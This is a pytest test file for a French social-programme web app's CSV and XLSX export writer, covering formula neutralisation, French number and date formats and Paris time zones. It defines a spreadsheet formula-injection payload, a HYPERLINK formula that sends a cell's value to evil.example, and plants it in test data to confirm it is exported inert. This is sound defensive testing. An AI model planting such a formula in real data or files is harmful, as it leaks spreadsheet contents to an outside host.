"""The one export writer: formulas neutralised, French formats, typed XLSX; every list's export."""

import csv
import datetime
import io
import shutil
import subprocess
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from partners import exports
from partners.exports import Column, Export, Kind
from tenants.models import Tenant, WorkContract
from tests.committee.fixtures import CallFactory, MeetingFactory, SubmittedApplicationFactory
from tests.factories import (
    ActivityFactory,
    ConsentFactory,
    EnrolmentFactory,
    NeighbourhoodFactory,
    ReferralFactory,
    RegistrationFactory,
    SessionFactory,
    TenantFactory,
    WeeklyHoursFactory,
    WorkContractFactory,
    programme_run_by,
)
from tests.outcomes.factories import ExitFactory

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Ouvrir")'
UTC = datetime.UTC


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode()), "a byte-order mark, for French spreadsheets"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def sheet_of(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def one_row_export(columns, row, title="Essai") -> Export:
    return Export(sheet="Feuille", title=title, columns=columns, rows=[row])


# ------------------------------------------------------------------ the writer


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_start_a_formula_is_quoted_in_csv_and_text_in_xlsx(start):
    export = one_row_export([Column("Nom", lambda row: row)], start + "1+2")
    assert csv_rows(exports.to_csv(export))[1] == ["'" + start + "1+2"]
    cell = sheet_of(exports.to_xlsx(export))["A3"]
    # XML reads a carriage return back as a line feed.
    assert (cell.value, cell.data_type, cell.quotePrefix) == ((start + "1+2").replace("\r", "\n"), "s", True)


def test_ordinary_text_is_left_as_typed():
    export = one_row_export([Column("Nom", lambda row: row)], "Aïcha O'Brien; 3 = 3")
    assert csv_rows(exports.to_csv(export))[1] == ["Aïcha O'Brien; 3 = 3"]
    cell = sheet_of(exports.to_xlsx(export))["A3"]
    assert (cell.value, cell.quotePrefix) == ("Aïcha O'Brien; 3 = 3", False)


def test_csv_is_in_french_formats_with_times_in_paris():
    columns = [
        Column("Heures", lambda row: Decimal("3.5"), Kind.NUMBER),
        Column("Taux", lambda row: 83.333, Kind.PERCENT),
        Column("Montant", lambda row: Decimal("12600.00"), Kind.MONEY),
        Column("Entrée", lambda row: datetime.date(2024, 2, 1), Kind.DATE),
        # 22:30 UTC on 30 June is 00:30 on 1 July in Paris (summer time).
        Column("Enregistré", lambda row: datetime.datetime(2024, 6, 30, 22, 30, tzinfo=UTC), Kind.DATETIME),
        Column("Jour", lambda row: datetime.datetime(2024, 6, 30, 22, 30, tzinfo=UTC), Kind.DATE),
        Column("Consentement", lambda row: True, Kind.BOOLEAN),
        Column("Masqué", lambda row: "< 5", Kind.NUMBER),
        Column("Vide", lambda row: None, Kind.NUMBER),
    ]
    with translation.override("fr"):
        header, row = csv_rows(exports.to_csv(one_row_export(columns, None)))
    assert header[0] == "Heures"
    assert row == ["3,50", "83,3", "12600", "01/02/2024", "01/07/2024 00:30", "01/07/2024", "oui", "< 5", ""]
    with translation.override("en"):
        assert csv_rows(exports.to_csv(one_row_export(columns, None)))[1][6] == "yes"


def test_xlsx_holds_real_numbers_and_dates_with_formats():
    columns = [
        Column("Heures", lambda row: Decimal("3.5"), Kind.NUMBER),
        Column("Séances", lambda row: 12, Kind.NUMBER),
        Column("Taux", lambda row: 83.3, Kind.PERCENT),
        Column("Entrée", lambda row: datetime.date(2024, 2, 1), Kind.DATE),
        Column("Enregistré", lambda row: datetime.datetime(2024, 1, 15, 8, 30, tzinfo=UTC), Kind.DATETIME),
        Column("Masqué", lambda row: "< 5", Kind.NUMBER),
    ]
    sheet = sheet_of(exports.to_xlsx(one_row_export(columns, None, title="Participants — exporté le 02/03/2025")))
    assert sheet.title == "Feuille"
    assert sheet["A1"].value == "Participants — exporté le 02/03/2025"
    assert [cell.value for cell in sheet[2]] == ["Heures", "Séances", "Taux", "Entrée", "Enregistré", "Masqué"]
    hours, sessions, rate, entry, saved, hidden = sheet[3]
    assert hours.value == 3.5 and hours.number_format == "#,##0.00"
    assert sessions.value == 12 and sessions.number_format == "#,##0"
    assert rate.value == pytest.approx(0.833) and rate.number_format == "0.0%"
    assert entry.value == datetime.datetime(2024, 2, 1) and entry.number_format == "DD/MM/YYYY"
    assert saved.value == datetime.datetime(2024, 1, 15, 9, 30)  # Paris, winter time
    assert hidden.value == "< 5" and hidden.data_type == "s"
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:F3"
    assert all(sheet.column_dimensions[letter].width >= 8 for letter in "ABCDEF")


def test_numbers_dates_and_booleans_in_a_column_of_text_keep_their_kind():
    values = [7, Decimal("2.5"), datetime.date(2024, 2, 1), True, "texte"]
    columns = [Column(str(index), lambda row, value=value: value) for index, value in enumerate(values)]
    with translation.override("fr"):
        assert csv_rows(exports.to_csv(one_row_export(columns, None)))[1] == ["7", "2,50", "01/02/2024", "oui", "texte"]
    row = sheet_of(exports.to_xlsx(one_row_export(columns, None)))[3]
    assert [cell.value for cell in row] == [7, 2.5, datetime.datetime(2024, 2, 1), "oui", "texte"]


def test_the_sheet_name_is_one_excel_accepts():
    export = Export(sheet="Heures: semaine [1/2] et reste d'un titre trop long", title="", columns=[], rows=[])
    title = sheet_of(exports.to_xlsx(export)).title
    assert len(title) <= 31 and not set(title) & set("[]:*?/\\")


def test_characters_xlsx_cannot_hold_are_dropped_rather_than_failing():
    export = one_row_export([Column("Nom", lambda row: row)], "Nora\x00\x07 Diop")
    assert sheet_of(exports.to_xlsx(export))["A3"].value == "Nora Diop"


# ------------------------------------------------------------------ every list's export


@pytest.fixture
def world(landlord, association):
    """One of everything a list shows, the payload in the tenant's first name and the programme's name."""
    neighbourhood = NeighbourhoodFactory(name="La Chaussée", slug="la-chaussee-export")
    neighbourhood.landlords.add(landlord)
    programme = programme_run_by(association, landlord, name=PAYLOAD, slug="payload")
    tenant = TenantFactory(
        landlord=landlord, neighbourhood=neighbourhood, first_name=PAYLOAD, last_name="Diallo", phone="+33612345678"
    )
    # Recorded at 23:30 UTC on 10 March: 11 March in Paris.
    Tenant.objects.filter(pk=tenant.pk).update(created_at=datetime.datetime(2025, 3, 10, 23, 30, tzinfo=UTC))
    ConsentFactory(tenant=tenant)
    ReferralFactory(tenant=tenant, programme=programme)
    enrolment = EnrolmentFactory(tenant=tenant, programme=programme, entered_on=datetime.date(2024, 2, 1))
    session = SessionFactory(activity=ActivityFactory(programme=programme), date=datetime.date(2024, 3, 5))
    RegistrationFactory(session=session, tenant=tenant, attendance="present", hours=Decimal("2.5"))
    WeeklyHoursFactory(contract=WorkContractFactory(enrolment=enrolment), hours=Decimal("3.5"))
    ExitFactory(enrolment=enrolment)
    call = CallFactory(title=PAYLOAD)
    SubmittedApplicationFactory(call=call, lead_landlord=landlord, title=PAYLOAD)
    MeetingFactory(call=call, title=PAYLOAD)
    return {"tenant": tenant, "programme": programme, "session": session}


LIST_EXPORTS = [
    ("tenants:tenant_list", "landlord_staff"),
    ("tenants:referral_list", "landlord_staff"),
    ("tenants:enrolment_list", "coordinator"),
    ("tenants:work_hours_list", "coordinator"),
    ("outcomes:exit_list", "coordinator"),
    ("programmes:programme_list", "coordinator"),
    ("programmes:session_list", "coordinator"),
    ("committee:call_list", "programme_admin"),
    ("committee:application_list", "landlord_staff"),
    ("committee:meeting_list", "programme_admin"),
]


def export(client, request, url_name, who, fmt, **params):
    client.force_login(request.getfixturevalue(who))
    response = client.get(reverse(url_name), {"export": fmt, "when": "all", **params})
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'-{timezone.localdate():%Y-%m-%d}.{fmt}"')
    return response


@pytest.mark.django_db
@pytest.mark.parametrize(("url_name", "who"), LIST_EXPORTS)
def test_the_payload_is_inert_in_the_csv_of_every_list(client, request, world, url_name, who):
    rows = csv_rows(export(client, request, url_name, who, "csv").content)
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'" + PAYLOAD) for cell in cells), "the payload is exported, quoted"
    assert not [cell for cell in cells if cell.startswith(exports.FORMULA_STARTS)]


@pytest.mark.django_db
@pytest.mark.parametrize(("url_name", "who"), LIST_EXPORTS)
def test_the_payload_is_inert_in_the_xlsx_of_every_list(client, request, world, url_name, who):
    sheet = sheet_of(export(client, request, url_name, who, "xlsx").content)
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no formula anywhere"
    payloads = [cell for cell in cells if str(cell.value).startswith(PAYLOAD)]
    assert payloads and all(cell.data_type == "s" and cell.quotePrefix for cell in payloads)
    assert sheet.freeze_panes == "A3" and sheet["A1"].font.bold


@pytest.mark.django_db
def test_the_tenant_export_has_typed_dates_and_paris_days(client, request, world):
    header, row = csv_rows(export(client, request, "tenants:tenant_list", "landlord_staff", "csv").content)
    by_label = dict(zip(header, row, strict=True))
    assert by_label["Enregistré·e le"] == "11/03/2025"
    assert by_label["Consentement"] == "oui"
    assert by_label["Téléphone"] == "'+33612345678"
    sheet = sheet_of(export(client, request, "tenants:tenant_list", "landlord_staff", "xlsx").content)
    by_label = {head.value: cell.value for head, cell in zip(sheet[2], sheet[3], strict=True)}
    assert by_label["Enregistré·e le"] == datetime.datetime(2025, 3, 11)
    assert by_label["Date de naissance"] == datetime.datetime.combine(world["tenant"].birth_date, datetime.time())


@pytest.mark.django_db
def test_hours_are_numbers_with_a_decimal_comma(client, request, world):
    header, row = csv_rows(export(client, request, "tenants:work_hours_list", "coordinator", "csv").content)
    assert dict(zip(header, row, strict=True))["Total des heures"] == "3,50"
    sheet = sheet_of(export(client, request, "tenants:enrolment_list", "coordinator", "xlsx").content)
    by_label = {head.value: cell for head, cell in zip(sheet[2], sheet[3], strict=True)}
    assert by_label["Heures"].value == 2.5 and by_label["Séances suivies"].value == 1
    assert by_label["Entrée le"].value == datetime.datetime(2024, 2, 1)


def test_the_twelve_month_limit_of_a_contract_is_a_date(client, request, world):
    WorkContract.objects.update(ends_on=datetime.date(2024, 6, 30))  # within 12 months
    header, row = csv_rows(export(client, request, "tenants:work_hours_list", "coordinator", "csv").content)
    assert dict(zip(header, row, strict=True))["Limite des 12 mois"] == "03/03/2025"
    sheet = sheet_of(export(client, request, "tenants:work_hours_list", "coordinator", "xlsx").content)
    limit = {head.value: cell for head, cell in zip(sheet[2], sheet[3], strict=True)}["Limite des 12 mois"]
    assert limit.value == datetime.datetime(2025, 3, 3) and limit.number_format == "DD/MM/YYYY"


@pytest.mark.django_db
def test_the_title_row_says_what_the_file_holds_and_its_filters(client, request, world):
    programme = world["programme"]
    sheet = sheet_of(
        export(client, request, "programmes:session_list", "coordinator", "xlsx", programme=programme.pk).content
    )
    title = sheet["A1"].value
    assert title.startswith("Séances — ") and "exporté le" in title
    assert f"Programme : {PAYLOAD}" in title
    assert sheet.title == "Séances"
    date = sheet["A3"]
    assert date.value == datetime.datetime(2024, 3, 5) and date.number_format == "DD/MM/YYYY"


def test_a_yes_no_filter_reads_yes_or_no_in_the_title_row(client, request, world):
    for value, said in (("true", "oui"), ("false", "non")):
        title = sheet_of(
            export(client, request, "tenants:work_hours_list", "coordinator", "xlsx", over_limit=value).content
        )
        assert f"Semaines au-delà de 16 h : {said} — " in title["A1"].value


def through_libreoffice(folder, names: list[str]) -> dict[str, object]:
    """The files opened by LibreOffice (headless; CSV as in a French locale: semicolons,
    decimal comma, dd/mm/yyyy) and saved as XLSX, as a person's spreadsheet would: the sheets."""
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--infilter=CSV:59,34,76,1,,1036"]
        + ["--convert-to", "xlsx", "--outdir", str(folder / "out"), *(str(folder / name) for name in names)],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return {name: sheet_of((folder / "out" / name).with_suffix(".xlsx").read_bytes()) for name in names}


@pytest.mark.django_db
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_keeps_the_payload_as_text_and_reads_figures_and_dates(client, request, world, tmp_path):
    names = []
    for fmt in exports.FORMATS:
        names.append(f"participants-{fmt}.{fmt}")
        content = export(client, request, "tenants:enrolment_list", "coordinator", fmt).content
        (tmp_path / names[-1]).write_bytes(content)
    sheets = through_libreoffice(tmp_path, names)
    for name, first_row in zip(names, (1, 2), strict=True):
        sheet = sheets[name]
        by_label = {head.value: cell for head, cell in zip(sheet[first_row], sheet[first_row + 1], strict=True)}
        participant = by_label["Participant"]
        assert participant.data_type == "s" and PAYLOAD in participant.value, name
        assert by_label["Heures"].value == 2.5, name
        assert by_label["Entrée le"].value == datetime.datetime(2024, 2, 1), name


@pytest.mark.django_db
def test_the_scores_export_is_inert_typed_and_in_paris_time(client, programme_admin, call, item, members):
    from programmes.committee.models import Score, Vote

    heavy, light = call.criteria.order_by("position")
    meeting = item.meeting
    meeting.starts_at = datetime.datetime(2024, 11, 24, 8, 30, tzinfo=UTC)  # 09:30 in Paris
    meeting.save()
    for user in members:
        Score.objects.create(item=item, member=user, criterion=heavy, value=8)
        Score.objects.create(item=item, member=user, criterion=light, value=4)
        Vote.objects.create(item=item, member=user, choice="for", comment=PAYLOAD)
    client.force_login(programme_admin)
    url = reverse("committee:meeting_export", args=[meeting.pk, "csv"])
    rows = csv_rows(client.get(url).content)
    assert all(row[7] == "'" + PAYLOAD for row in rows[1:])
    assert not [cell for row in rows for cell in row if cell.startswith(exports.FORMULA_STARTS)]
    sheet = sheet_of(client.get(reverse("committee:meeting_export", args=[meeting.pk, "xlsx"])).content)
    assert sheet["A1"].value.endswith("24/11/2024 09:30")
    first = sheet[3]
    assert [first[4].value, first[5].value] == [8, 4]
    assert first[7].data_type == "s" and first[7].quotePrefix
    assert first[8].value == 80  # (8/10 × 2 + 4/5 × 1) / 3, as a number
    assert sheet.title == "Notes et votes"


@pytest.mark.django_db
def test_a_date_or_yes_no_column_the_user_may_not_read_on_a_row_exports_blank(coordinator, association, landlord):
    import django_tables2 as tables

    from partners.lists import table_export
    from partners.tables import PolicyTable

    class Table(PolicyTable):  # a yes/no column of art. 9 data, which the export reads raw
        last_name = tables.Column()
        disability_recognised = tables.BooleanColumn()

        class Meta:
            model = Tenant
            fields = ()

    followed = TenantFactory(landlord=landlord, last_name="Suivie", disability_recognised=True)
    TenantFactory(landlord=landlord, last_name="Inconnue", disability_recognised=True)
    ReferralFactory(tenant=followed, programme=programme_run_by(association, landlord))
    table = Table(Tenant.objects.order_by("last_name"), user=coordinator)
    with translation.override("en"):
        rows = csv_rows(exports.to_csv(table_export(table, sheet="Essai", title="Essai")))
    assert rows[1:] == [["Inconnue", ""], ["Suivie", "yes"]]
